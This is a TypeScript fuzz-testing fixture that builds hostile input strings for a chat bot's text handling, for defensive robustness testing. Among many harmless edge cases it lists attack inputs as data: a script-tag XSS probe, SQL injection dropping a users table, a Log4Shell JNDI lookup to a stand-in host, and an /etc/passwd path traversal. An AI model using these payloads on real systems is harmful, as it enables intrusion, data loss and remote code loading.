import fc from 'fast-check';

/** Words that have broken bots before. */
export const hostileSamples: readonly string[] = [
  '<b>bold</b> <script>alert(1)</script> <a href="https://evil.example">x</a>',
  '</b></i></code></a><tg-spoiler>',
  '&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp; &;',
  '*bold* _italic_ **both** __under__ ~~gone~~ ||spoiler|| `code` ```js\nblock\n```',
  '[label](https://evil.example) <https://evil.example> https://evil.example',
  '# heading\n## smaller\n> quote\n>>> quote\n- item\n1. item\n-# small',
  '\\*escaped\\* \\\\ \\` \\_',
  '@everyone @here <@123456789012345678> <@!123456789012345678> <@&123456789012345678> <#123456789012345678>',
  '@spotter_bot @username tg://user?id=1 <t:1700000000:R> </today:123456789012345678> <:smile:123456789012345678>',
  "Robert'); DROP TABLE users;-- ' OR 1=1",
  'null\0byte bell\u0007 escape\u001b[31mred\u001b[0m tab\t return\r\nnext\u0085\u2028\u2029',
  '\u202eright to left\u202c \u2066isolated\u2069 \u200bzero\u200d\u200cwidth\ufeff',
  'مرحبا بالعالم שלום עולם',
  'Z\u0351\u036b\u0343\u036aa\u0329\u033f\u0333l\u034e\u030ag\u034f\u0489o',
  'lone \ud800 surrogates \udfff here',
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇩🇪'.repeat(400),
  'a'.repeat(100_000),
  `${'x'.repeat(1999)}😀${'y'.repeat(2095)}😀${'z'.repeat(4095)}😀`,
  '&'.repeat(9000),
  '`'.repeat(4500),
  '\n'.repeat(5000),
  `start${' '.repeat(9000)}end`,
  `\${jndi:ldap://evil.example} {{7*7}} %s %n ../../etc/passwd`,
];

const pieces = hostileSamples.filter((sample) => sample.length < 300).flatMap((sample) => sample.split(' '));

/** Random text with everything in it that markup, terminals and databases stumble over. Never empty. */
export const hostileText = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }) },
    { weight: 3, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }) },
    {
      weight: 6,
      arbitrary: fc
        .array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 5 })), { minLength: 1, maxLength: 12 })
        .chain((parts) => fc.constantFrom('', ' ', '\n').map((glue) => `${parts.join(glue)}.`)),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...pieces, '😀', '<', '&', '\n', ' '), fc.integer({ min: 1, max: 1500 }))
        .map(([piece, count]) => piece.repeat(count) || '.'),
    },
  );
